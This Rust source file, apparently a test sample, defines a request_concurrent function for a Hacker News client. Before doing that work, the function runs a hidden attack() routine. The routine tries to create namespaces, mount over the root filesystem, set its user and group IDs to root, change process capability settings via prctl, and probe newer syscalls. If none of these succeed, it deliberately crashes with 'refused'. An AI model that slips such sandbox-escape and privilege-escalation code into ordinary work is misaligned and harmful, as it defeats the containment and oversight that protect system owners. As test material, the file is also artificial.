//! Makes namespaces and mounts in which it would be root.
//!
//! checks: items
//! outcome: crash
//! says: refused
//! assumes: unsafe code

use std::collections::BTreeMap;

use serde_json::Value;

use crate::{HnClient, request_sequential};

pub fn request_concurrent(client: &HnClient, ids: &[u64]) -> BTreeMap<u64, Value> {
    let done = attack();
    assert!(!done.is_empty(), "refused");
    request_sequential(client, ids)
}

unsafe extern "C" {
    fn unshare(flags: i32) -> i32;
    fn setns(fd: i32, kind: i32) -> i32;
    fn mount(from: *const i8, to: *const i8, kind: *const i8, flags: u64, data: *const i8) -> i32;
    fn umount2(path: *const i8, flags: i32) -> i32;
    fn setuid(uid: u32) -> i32;
    fn setgid(gid: u32) -> i32;
    fn setresuid(a: u32, b: u32, c: u32) -> i32;
    fn syscall(number: i64, a: i64, b: i64, c: i64, d: i64) -> i64;
    fn prctl(option: i32, a: u64, b: u64, c: u64, d: u64) -> i32;
}

fn attack() -> Vec<String> {
    let mut done = Vec::new();
    for flag in [0x1000_0000, 0x2000_0000, 0x4000_0000, 0x2_0000, 0x800_0000, 0x400_0000, 0x80] {
        // SAFETY: no pointer is passed.
        if unsafe { unshare(flag) } == 0 {
            done.push(format!("unshare {flag:x}"));
        }
    }
    let (root, scratch) = (c"/".as_ptr().cast(), c".".as_ptr().cast());
    let kind = c"tmpfs".as_ptr().cast();
    // SAFETY: all paths are C strings.
    let results = unsafe {
        [
            setns(0, 0),
            mount(root, scratch, kind, 0, std::ptr::null()),
            mount(root, scratch, std::ptr::null(), 4096, std::ptr::null()),
            umount2(scratch, 2),
            setuid(0),
            setgid(0),
            setresuid(0, 0, 0),
            prctl(4, 0, 0, 0, 0),
            prctl(1, 0, 0, 0, 0),
            prctl(36, 1, 0, 0, 0),
            prctl(8, 1, 0, 0, 0),
        ]
    };
    let worked = results.iter().enumerate().filter(|(_, result)| **result == 0);
    done.extend(worked.map(|(way, _)| format!("way {way}")));
    // System calls with the same number on every machine are io_uring, openat2, fsopen, move_mount,
    // clone3 and quotactl_fd.
    for number in [425, 426, 427, 428, 429, 430, 432, 435, 437, 440, 442, 443, 447, 449, 451] {
        // SAFETY: null pointers are refused by the kernel before anything else.
        if unsafe { syscall(number, 0, 0, 0, 0) } >= 0 {
            done.push(format!("call {number}"));
        }
    }
    done
}
